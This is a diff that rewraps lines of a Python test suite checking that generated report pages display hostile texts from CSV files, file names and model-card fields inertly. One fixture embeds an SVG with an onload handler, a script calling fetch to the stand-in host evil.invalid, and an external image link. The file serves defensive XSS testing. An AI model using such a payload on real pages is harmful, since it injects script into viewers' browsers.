@@ -15,7 +15,7 @@ def quoted(text):
 
 
 def plain(text):
-    """A text as a page may show it: control characters as blanks, bytes that are not UTF-8 as replacement characters."""
+    """A text as a page may show it: control characters as blanks, bytes that are not UTF-8 as U+FFFD."""
     text = text if isinstance(text, str) else text.decode("utf-8", "replace")
     return re.sub("[\ufffd\ufffe\uffff]+", "\ufffd", re.sub(r"[\x00-\x20\x7f-\x9f\u2028\u2029]+", " ", text)).strip()
 
@@ -36,14 +36,16 @@ class Hostile(PageTest):
         self.assertEqual(self.check(page, "count('bdi *')"), 0)
         shown = [plain(text) for text in self.check(page, "texts('bdi')")]
         for text in texts:
-            self.assertTrue(any(plain(text)[:60] in candidate for candidate in shown), f"not shown as it is: {text[:60]}")
+            self.assertTrue(any(plain(text)[:60] in candidate for candidate in shown),
+                            f"not shown as it is: {text[:60]}")
 
     def compare(self, make, texts, shown=None):
         """make(texts) gives a page's file, of the same shape for as many texts."""
         file = make(texts)
         page = self.open(file)
         self.assert_shows(page, file, texts if shown is None else shown)
-        self.harmless = self.harmless or self.shape(self.open(make([b"name %d" % number for number in range(len(texts))])))
+        names = [b"name %d" % number for number in range(len(texts))]
+        self.harmless = self.harmless or self.shape(self.open(make(names)))
         self.assertEqual(self.shape(page), self.harmless)
         return page
 
@@ -56,7 +58,8 @@ class Hostile(PageTest):
         def make(texts):
             file = pages.fresh("scores.csv")
             header = b",".join([b"label", *map(quoted, texts)])
-            rows = [b",".join([b"%d" % label, *(b"%.4f" % (score * (place + 1)) for place in range(len(texts)))]) for label, score in zip(labels[:60], scores)]
+            rows = [b",".join([b"%d" % label, *(b"%.4f" % (score * (place + 1)) for place in range(len(texts)))])
+                    for label, score in zip(labels[:60], scores)]
             file.write_bytes(b"\n".join([header, *rows]) + b"\n")
             columns = [word for place in range(len(texts)) for word in ("--score", str(place + 2))]
             return pages.evaluated(file, "--label", "1", *columns, "--fpr-max", "0.2")
@@ -72,10 +75,12 @@ class Hostile(PageTest):
     def test_label_values_columns_and_file_names(self):
         def make(texts):
             # A value that begins with < or > would be a comparison.
-            value, other, column, name = b"is " + b" ".join(texts), b"not " + texts[0], texts[-1], texts[1].replace(b"/", b"")[:100] + b".csv"
+            value, other, column = b"is " + b" ".join(texts), b"not " + texts[0], texts[-1]
+            name = texts[1].replace(b"/", b"")[:100] + b".csv"
             file = os.path.join(os.fsencode(pages.fresh("x").parent), name)
             with open(file, "wb") as out:
-                out.write(b"%s,score\n" % quoted(column) + b"".join(b"%s,%d\n" % (quoted(value if k % 3 else other), (k * 7) % 30) for k in range(30)))
+                rows = (b"%s,%d\n" % (quoted(value if k % 3 else other), (k * 7) % 30) for k in range(30))
+                out.write(b"%s,score\n" % quoted(column) + b"".join(rows))
             return pages.evaluated(file, "--label", "1", "--positive", value, "--fpr-max", "0.2")
 
         for texts in batches([text for text in HOSTILE if len(text) < 500], 9):
@@ -86,11 +91,14 @@ class Hostile(PageTest):
         def make(texts):
             file = pages.fresh("data.csv")
             columns = [b"id", b"part", b"label", b"number", *map(quoted, texts)]
-            rows = [[b"train row %d" % k, b"valid" if k % 3 == 0 else b"train", b"%d" % (k % 4 == 0), b"%d" % (k * 7 % 40), *(quoted(text) if k % 2 else b"other" for text in texts)]
+            rows = [[b"train row %d" % k, b"valid" if k % 3 == 0 else b"train", b"%d" % (k % 4 == 0),
+                     b"%d" % (k * 7 % 40), *(quoted(text) if k % 2 else b"other" for text in texts)]
                     for k in range(40)]
-            rows += [[quoted(text), b"test", b"%d" % (k % 2), b"%d" % (k * 11 % 40), *(b"other" for _ in texts)] for k, text in enumerate(texts)]
+            rows += [[quoted(text), b"test", b"%d" % (k % 2), b"%d" % (k * 11 % 40), *(b"other" for _ in texts)]
+                     for k, text in enumerate(texts)]
             file.write_bytes(b"\n".join(map(b",".join, [columns, *rows])) + b"\n")
-            return pages.trained(file, "--label", "label", "--id", "id", "--split", "part", "--objective", "ce", "--model", "linear", "--epochs", 1) / "report.html"
+            return pages.trained(file, "--label", "label", "--id", "id", "--split", "part", "--objective", "ce",
+                                 "--model", "linear", "--epochs", 1) / "report.html"
 
         for texts in batches(HOSTILE, 16):
             with self.subTest(texts[0][:40]):
@@ -122,7 +130,8 @@ class Hostile(PageTest):
             file.write_text(json.dumps(content))
 
         def make(texts):
-            kind, positive, name, model, objective, option, version, command, config, identity = [text.decode() for text in texts]
+            kind, positive, name, model, objective, option, version, command, config, identity = [
+                text.decode() for text in texts]
 
             def change_card(card):
                 card["data"].update(kind=kind, positive=positive, files=[{"name": name, "bytes": 1, "crc32": 1}])
@@ -132,9 +141,11 @@ class Hostile(PageTest):
 
             def change_hardest(hardest):
                 hardest["test"]["positives"][0].update(id=identity)
-                picture = b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='top.hacked=1'><script>top.hacked=1;fetch('http://evil.invalid')</script>" \
-                          b"<image href='http://evil.invalid/x.png'/><rect width='9' height='9'/></svg>"
-                hardest["test"]["positives"][0]["picture"] = {"type": "image/svg+xml", "data": base64.b64encode(picture).decode()}
+                picture = (b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='top.hacked=1'>"
+                           b"<script>top.hacked=1;fetch('http://evil.invalid')</script>"
+                           b"<image href='http://evil.invalid/x.png'/><rect width='9' height='9'/></svg>")
+                hardest["test"]["positives"][0]["picture"] = {
+                    "type": "image/svg+xml", "data": base64.b64encode(picture).decode()}
 
             copy = pages.fresh("run")
             shutil.copytree(run, copy)
